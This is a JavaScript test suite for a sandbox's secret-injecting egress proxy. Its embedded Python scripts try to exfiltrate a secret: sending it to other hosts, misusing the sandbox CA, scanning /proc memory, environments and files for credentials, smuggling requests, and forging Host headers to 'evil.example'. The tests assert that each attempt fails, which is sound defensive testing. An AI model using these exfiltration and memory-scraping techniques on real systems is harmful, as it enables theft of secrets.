'use strict';
// rootless: yes
// Attack suite, `secrets`. The box holds a placeholder for a secret whose value the egress
// proxy writes into requests to one host (`api`, HTTPS on 127.0.0.1). It tries to get the value
// out: by sending the placeholder to an allowed host that is not the secret's (`other`, HTTPS,
// and `plain`, HTTP), by using the per-Sandbox CA it trusts against that other host, by looking
// for the CA's private key, and by searching itself (environment, /proc, process memory, files)
// for the value. The servers record what arrived; the host is checked to be untouched.

const crypto = require('crypto');
const { opts, requireRootfs, tempDirs } = require('../../helpers');
const { hostGuard, runJson } = require('../host');
const { makeTestCa, trustTestCa, untrustTestCa, startHttps, startHttp, startReflector, stopAll } = require('../../support/tls-servers');
const { Sandbox } = require('../../..');

const suite = { guard: null, dirs: tempDirs() };
const VALUE = `sk-attack-${crypto.randomBytes(16).toString('hex')}`;

let tls;
let api;
let other;
let plain;
let sb;

beforeAll(async () => {
  requireRootfs();
  suite.guard = await hostGuard();
  tls = makeTestCa(suite.dirs.temp('kern-secrets-attack-'));
  trustTestCa(tls.caFile);
  api = await startHttps(tls);
  other = await startHttps(tls);
  plain = await startHttp();
  const allow = [api, other, plain].map((s) => `127.0.0.1:${s.port}`);
  sb = await new Sandbox(opts({ egressAllow: allow, secrets: { KEY: { value: VALUE, hosts: [`127.0.0.1:${api.port}`] } } })).open();
});

afterAll(async () => {
  if (sb) await sb.close();
  stopAll(api, other, plain);
  untrustTestCa();
  await suite.guard.assertNoLeaks();
  suite.guard.cleanup();
  suite.dirs.removeAll();
});

/** Every request any server got, as the host saw it. */
const everything = () => JSON.stringify([api.seen, other.seen, plain.seen]);

const PY = [
  'import hashlib, json, os, re, socket, ssl, urllib.request',
  'KEY = os.environ["KEY"]',
  'PROXY = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])',
  'def bundle_ca():',
  '    """The last certificate of the bundle the box trusts: the per-Sandbox CA."""',
  '    text = open(os.environ["SSL_CERT_FILE"]).read()',
  '    return re.findall(r"-----BEGIN CERTIFICATE-----[^-]+-----END CERTIFICATE-----", text)[-1]',
  'def tls_get(port, path, ctx):',
  '    s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=20), server_hostname="127.0.0.1")',
  '    der = s.getpeercert(binary_form=True)',
  '    s.sendall(f"GET {path} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\nAuthorization: Bearer {KEY}\\r\\nConnection: close\\r\\n\\r\\n".encode())',
  '    out = b""',
  '    while True:',
  '        c = s.recv(65536)',
  '        if not c: break',
  '        out += c',
  '    return hashlib.sha256(der).hexdigest(), out.split(b"\\r\\n")[0].decode()',
].join('\n');

const realCertSha = () => crypto.createHash('sha256').update(new crypto.X509Certificate(tls.cert).raw).digest('hex');

test('the placeholder sent to an allowed host that is not the secret\'s arrives as the placeholder', async () => {
  const { j } = await runJson(sb, [
    PY,
    'out = {}',
    'ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE',
    `out["other_tls"] = tls_get(${other.port}, "/exfil-tls?k=" + KEY, ctx)[1]`,
    `req = urllib.request.Request(f"http://127.0.0.1:${plain.port}/exfil-plain?k={KEY}", headers={"Authorization": "Bearer " + KEY, "X-" + KEY: KEY})`,
    'out["plain"] = urllib.request.urlopen(req, timeout=20).status',
    // Through the proxy, absolute-form: the placeholder in the URL and the headers.
    's = socket.create_connection(("127.0.0.1", PROXY), timeout=20)',
    `s.sendall(f"GET http://127.0.0.1:${plain.port}/exfil-proxy?k={KEY} HTTP/1.1\\r\\nHost: 127.0.0.1:${plain.port}\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n".encode())`,
    'out["proxy"] = s.recv(100).split(b" ")[1].decode()',
    'print(json.dumps(out))',
  ].join('\n'));
  expect(j).toEqual({ other_tls: 'HTTP/1.1 200 OK', plain: 200, proxy: '200' });
  const ph = (await sb.run(['sh', '-c', 'printf %s "$KEY"'])).stdout;
  expect(ph).toMatch(/^kern-secret-[0-9a-f]{32,34}$/);
  const tlsGot = other.seen.find((r) => r.url.startsWith('/exfil-tls'));
  expect(tlsGot.url).toBe(`/exfil-tls?k=${ph}`);
  expect(tlsGot.headers.authorization).toBe(`Bearer ${ph}`);
  for (const path of ['/exfil-plain', '/exfil-proxy']) {
    const got = plain.seen.find((r) => r.url.startsWith(path));
    expect(got.url).toBe(`${path}?k=${ph}`);
    expect(got.headers.authorization).toBe(`Bearer ${ph}`);
  }
  expect(everything()).not.toContain(VALUE);
  suite.guard.assertUntouched();
});

test('the per-Sandbox CA does not make the box trust, or the proxy intercept, another host', async () => {
  const before = other.seen.length;
  const { j } = await runJson(sb, [
    PY,
    'ca = ssl.create_default_context(cadata=bundle_ca())',
    'out = {}',
    'try:',
    `    out["other"] = tls_get(${other.port}, "/ca-misuse", ca)`,
    'except ssl.SSLCertVerificationError as e:',
    '    out["other"] = "verify failed: " + e.verify_message',
    // The same CA is what the secret's host presents (the proxy terminates there).
    `out["api"] = tls_get(${api.port}, "/ca-control", ca)`,
    'raw = ssl.create_default_context(); raw.check_hostname = False; raw.verify_mode = ssl.CERT_NONE',
    `out["other_cert"] = tls_get(${other.port}, "/ca-raw", raw)[0]`,
    'print(json.dumps(out))',
  ].join('\n'));
  expect(j.other).toMatch(/^verify failed: /);
  expect(j.api[1]).toBe('HTTP/1.1 200 OK');
  // The box saw the real server's certificate for the other host, and the proxy's for the api.
  expect(j.other_cert).toBe(realCertSha());
  expect(j.api[0]).not.toBe(realCertSha());
  expect(other.seen.slice(before).map((r) => r.url)).toEqual(['/ca-raw']);
  expect(api.seen.find((r) => r.url === '/ca-control').headers.authorization).toBe(`Bearer ${VALUE}`);
  suite.guard.assertUntouched();
});

test('neither the value nor the CA\'s private key is anywhere in the box', async () => {
  // The search must not carry what it looks for (it would find itself): it matches the value's
  // shape and compares a hash, and spells the key's PEM label as a pattern. Memory is searched
  // for the value only (TLS libraries hold the label as a constant).
  const sha = crypto.createHash('sha256').update(VALUE).digest('hex');
  const { j } = await runJson(sb, [
    'import hashlib, json, os, re, subprocess',
    `SHA = ${JSON.stringify(sha)}`,
    'SHAPE = re.compile(rb"sk-attack-[0-9a-f]{32}")',
    'LABEL = re.compile(rb"PRIVATE[ ]KEY")',
    'PH = os.environ["KEY"].encode()',
    // A second process holding the environment, as a workload's children do.
    'child = subprocess.Popen(["sleep", "60"])',
    'found = {"value": [], "key": [], "ph": []}',
    'scanned = {"environ": 0, "mem": 0, "files": 0}',
    'def look(where, data, key=True):',
    '    if any(hashlib.sha256(m).hexdigest() == SHA for m in SHAPE.findall(data)): found["value"].append(where)',
    '    if key and LABEL.search(data): found["key"].append(where)',
    '    if PH in data: found["ph"].append(where)',
    'for pid in [p for p in os.listdir("/proc") if p.isdigit()]:',
    '    for f in ("environ", "cmdline"):',
    '        try:',
    '            look(f"/proc/{pid}/{f}", open(f"/proc/{pid}/{f}", "rb").read()); scanned["environ"] += 1',
    '        except OSError: pass',
    '    try:',
    '        maps = open(f"/proc/{pid}/maps").read().splitlines()',
    '        mem = open(f"/proc/{pid}/mem", "rb", 0)',
    '    except OSError: continue',
    '    for line in maps:',
    '        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) (\\S+)", line)',
    '        lo, hi, perms = int(m[1], 16), int(m[2], 16), m[3]',
    '        if "r" not in perms or hi - lo > 1 << 30 or "[vvar" in line: continue',
    '        try:',
    '            mem.seek(lo); data = mem.read(hi - lo)',
    '        except (OSError, OverflowError, ValueError): continue',
    '        scanned["mem"] += len(data)',
    '        look(f"/proc/{pid}/mem", data, key=False)',
    'for top in ("/etc", "/tmp", "/workspace", "/run", "/root", "/home", "/var", "/opt", "/srv"):',
    '    for d, _, files in os.walk(top):',
    '        for f in files:',
    '            p = os.path.join(d, f)',
    '            try:',
    '                if not os.path.isfile(p) or os.path.islink(p): continue',
    '                look(p, open(p, "rb").read()); scanned["files"] += 1',
    '            except OSError: pass',
    'child.kill()',
    'print(json.dumps({"found": found, "scanned": scanned, "child": child.pid}))',
  ].join('\n'));
  expect(j.found.value).toEqual([]);
  expect(j.found.key).toEqual([]);
  // The search could have found them: it read the environments, memory and files, and found
  // the placeholder in the child's environment and memory.
  expect(j.scanned.environ).toBeGreaterThan(0);
  expect(j.scanned.mem).toBeGreaterThan(1 << 20);
  expect(j.scanned.files).toBeGreaterThan(10);
  expect(j.found.ph).toContain(`/proc/${j.child}/environ`);
  expect(j.found.ph).toContain(`/proc/${j.child}/mem`);
  suite.guard.assertUntouched();
});

test('a request head the box forges cannot move the value to another host', async () => {
  // Smuggling a second request behind the first, inside a tunnel to the secret's host: only
  // the first head is rewritten (the upstream is told to close after it), and the connection
  // only ever reaches the secret's host anyway.
  const before = api.seen.length;
  const { j } = await runJson(sb, [
    PY,
    'ctx = ssl.create_default_context(cadata=bundle_ca())',
    `s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", ${api.port}), timeout=20), server_hostname="127.0.0.1")`,
    `first = f"GET /smuggle-1 HTTP/1.1\\r\\nHost: 127.0.0.1:${api.port}\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n"`,
    `second = f"GET /smuggle-2 HTTP/1.1\\r\\nHost: 127.0.0.1:${plain.port}\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n"`,
    's.sendall((first + second).encode())',
    'out = b""',
    'while True:',
    '    c = s.recv(65536)',
    '    if not c: break',
    '    out += c',
    'print(json.dumps({"responses": out.count(b"HTTP/1.1 ")}))',
  ].join('\n'));
  expect(j.responses).toBe(1);
  const got = api.seen.slice(before);
  expect(got.map((r) => r.url)).toEqual(['/smuggle-1']);
  expect(got[0].headers.authorization).toBe(`Bearer ${VALUE}`);
  expect(plain.seen.find((r) => r.url.startsWith('/smuggle'))).toBeUndefined();
  suite.guard.assertUntouched();
});

test('inside a tunnel to the secret\'s host, a request naming another site never carries the value', async () => {
  // Virtual hosting (a CDN, a shared front end) routes a request by its `Host` header, or by
  // the authority of an absolute-form target: the box reaches the secret's address and names
  // another site there, so that the value would be handed to that site. The proxy refuses such
  // a request (400) before the value is written in; the server only records what arrived.
  const before = api.seen.length;
  const { j } = await runJson(sb, [
    PY,
    'ctx = ssl.create_default_context(cadata=bundle_ca())',
    'def send(head):',
    `    s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", ${api.port}), timeout=20), server_hostname="127.0.0.1")`,
    '    s.sendall(head.encode())',
    '    out = b""',
    '    while True:',
    '        c = s.recv(65536)',
    '        if not c: break',
    '        out += c',
    '    return out.split(b"\\r\\n")[0].decode()',
    'out = {}',
    `out["host"] = send(f"GET /front-host HTTP/1.1\\r\\nHost: evil.example\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n")`,
    `out["port"] = send(f"GET /front-port HTTP/1.1\\r\\nHost: 127.0.0.1:1\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n")`,
    `out["absolute"] = send(f"GET http://evil.example/front-abs HTTP/1.1\\r\\nHost: 127.0.0.1:${api.port}\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n")`,
    `out["two"] = send(f"GET /front-two HTTP/1.1\\r\\nHost: 127.0.0.1:${api.port}\\r\\nHost: evil.example\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n")`,
    `out["none"] = send(f"GET /front-none HTTP/1.1\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n")`,
    // The control: the secret's own name, as clients write it.
    `out["ok"] = send(f"GET /front-ok HTTP/1.1\\r\\nHost: 127.0.0.1:${api.port}\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n")`,
    'print(json.dumps(out))',
  ].join('\n'));
  expect(j).toEqual({
    host: 'HTTP/1.1 400 Bad Request',
    port: 'HTTP/1.1 400 Bad Request',
    absolute: 'HTTP/1.1 400 Bad Request',
    two: 'HTTP/1.1 400 Bad Request',
    none: 'HTTP/1.1 400 Bad Request',
    ok: 'HTTP/1.1 200 OK',
  });
  const got = api.seen.slice(before);
  expect(got.map((r) => r.url)).toEqual(['/front-ok']);
  expect(got[0].headers.authorization).toBe(`Bearer ${VALUE}`);
  expect(JSON.stringify(got[0].headers.host)).toBe(JSON.stringify(`127.0.0.1:${api.port}`));
  suite.guard.assertUntouched();
});

describe('servers that reflect the request never hand the value back to the box', () => {
  // The secret's hosts reflect as common servers do (tls-servers.js `reflector`): a JSON 404
  // quoting the URL, a trailing-slash redirect's Location, CORS echoing Origin, a preflight
  // echoing Access-Control-Request-Headers, and a debug endpoint echoing Authorization in
  // seven encodings. The box puts its placeholder where each would reflect it, over HTTPS
  // (terminated), plain HTTP to the in-box loopback listener, and plain HTTP through the proxy
  // (absolute-form). The value must reach the server in Authorization (where the secret allows
  // it) and never come back: the proxy refuses the rest, and scrubs what the echo returns.
  // A value with characters each encoding spells differently.
  const RVALUE = `sk-${crypto.randomBytes(12).toString('hex')}/a+b=&"c"<d>`;
  let rtls;
  let rplain;
  let rsb;
  beforeAll(async () => {
    rtls = await startReflector(tls);
    rplain = await startReflector();
    const hosts = [`127.0.0.1:${rtls.port}`, `127.0.0.1:${rplain.port}`];
    rsb = await new Sandbox(opts({ egressAllow: hosts, secrets: { RKEY: { value: RVALUE, hosts } } })).open();
  });
  afterAll(async () => {
    if (rsb) await rsb.close();
    stopAll(rtls, rplain);
  });

  const RPY = [
    'import base64, http.client, json, os, ssl, urllib.parse',
    'KEY = os.environ["RKEY"]',
    'ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])',
    'PROXY = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])',
    'def ask(way, method, path, headers, body=None):',
    '    if way == "tls":',
    '        c = http.client.HTTPSConnection("127.0.0.1", TPORT, context=ctx, timeout=20)',
    '    elif way == "direct":',
    '        c = http.client.HTTPConnection("127.0.0.1", PPORT, timeout=20)',
    '    else:',
    '        c = http.client.HTTPConnection("127.0.0.1", PROXY, timeout=20)',
    '        path = f"http://127.0.0.1:{PPORT}{path}"',
    '    try:',
    '        c.request(method, path, body=body, headers=headers)',
    '        r = c.getresponse()',
    '        return {"status": r.status, "headers": r.getheaders(), "body": r.read().decode("latin-1")}',
    '    except Exception as e:',
    '        return {"error": type(e).__name__ + ": " + str(e)}',
    'auth = {"Authorization": "Bearer " + KEY}',
    'out = {"key": KEY}',
    'for way in ("tls", "direct", "proxy"):',
    '    o = out[way] = {}',
    '    o["notfound"] = ask(way, "GET", "/missing-" + way + "?k=" + KEY, auth)',
    '    o["redirect"] = ask(way, "GET", "/dir-" + way + "?k=" + urllib.parse.quote(KEY), auth)',
    '    o["path"] = ask(way, "GET", "/p-" + way + "/" + KEY, auth)',
    '    o["cors"] = ask(way, "GET", "/cors-" + way, dict(auth, Origin="https://" + KEY + ".example"))',
    '    o["preflight"] = ask(way, "OPTIONS", "/pre-" + way, dict(auth, **{"Access-Control-Request-Headers": "x-" + KEY, "Access-Control-Request-Method": "GET"}))',
    '    o["other_header"] = ask(way, "GET", "/oh-" + way, dict(auth, **{"X-Debug": KEY}))',
    '    o["body"] = ask(way, "POST", "/body-" + way, auth, body="token=" + KEY)',
    '    o["echo"] = ask(way, "GET", "/echo", auth)',
    '    o["echo_len"] = ask(way, "GET", "/echo-len", auth)',
    'print(json.dumps(out))',
  ].join('\n');

  test('placeholders where servers reflect are refused; what an echo returns is scrubbed', async () => {
    const { r, j } = await runJson(rsb, RPY.replace(/TPORT/g, rtls.port).replace(/PPORT/g, rplain.port));
    const ph = j.key;
    expect(ph).toMatch(/^kern-secret-[0-9a-f]{32,34}$/);
    // First: nothing the box got back, nor the result, holds the value in any form.
    const leaves = (v) => (typeof v === 'string' ? [v] : v && typeof v === 'object' ? Object.values(v).flatMap(leaves) : []);
    const everythingBack = [...leaves(j), r.stdout, r.stderr, ...r.runtimeNotes].join('\n');
    for (const form of [RVALUE, encodeURIComponent(RVALUE), JSON.stringify(RVALUE).slice(1, -1), Buffer.from(RVALUE).toString('hex')]) {
      expect(everythingBack).not.toContain(form);
    }
    const notes = r.runtimeNotes.join('\n');
    for (const way of ['tls', 'direct', 'proxy']) {
      const o = j[way];
      for (const k of ['notfound', 'redirect', 'path', 'cors', 'preflight', 'other_header']) {
        expect({ way, k, status: o[k].status }).toEqual({ way, k, status: 403 });
      }
      // The body is cut before its end reaches the server: a 403, or the connection closed.
      expect([403, undefined]).toContain(o.body.status);
      for (const k of ['echo', 'echo_len']) {
        const echo = o[k];
        expect({ way, k, status: echo.status }).toEqual({ way, k, status: 200 });
        const forms = JSON.parse(echo.body);
        const want = `Bearer ${ph}`;
        expect(forms.plain).toBe(want);
        expect(Buffer.from(forms.b64, 'base64').toString()).toBe(`x${want}yz`);
        expect(Buffer.from(forms.b64url, 'base64url').toString()).toBe(`${want}!`);
        expect(decodeURIComponent(forms.pct)).toBe(want);
        expect(JSON.parse(forms.json).a).toBe(want);
        expect(forms.html).toBe(want);
        expect(Buffer.from(forms.hex, 'hex').toString()).toBe(want);
        const headers = Object.fromEntries(echo.headers.map(([n, v]) => [n.toLowerCase(), v]));
        expect(headers['x-echo']).toBe(want);
        expect(Buffer.from(headers['x-echo-b64'], 'base64').toString()).toBe(want);
      }
    }
    expect(notes).toMatch(/placeholder of secret RKEY is in the request line/);
    expect(notes).toMatch(/placeholder of secret RKEY is in header "Origin"/);
    expect(notes).toMatch(/placeholder of secret RKEY is in header "Access-Control-Request-Headers"/);
    expect(notes).toMatch(/placeholder of secret RKEY is in the request body/);
    // On the host: the value reached each server in Authorization only, for the echoes; no
    // refused request arrived whole, and none carried the value anywhere else.
    for (const srv of [rtls, rplain]) {
      const echoes = srv.seen.filter((q) => q.url.startsWith('/echo'));
      expect(echoes.length).toBeGreaterThanOrEqual(2);
      for (const q of echoes) expect(q.headers.authorization).toBe(`Bearer ${RVALUE}`);
      const others = srv.seen.filter((q) => !q.url.startsWith('/echo'));
      expect(others).toEqual([]);
    }
    suite.guard.assertUntouched();
  });
});
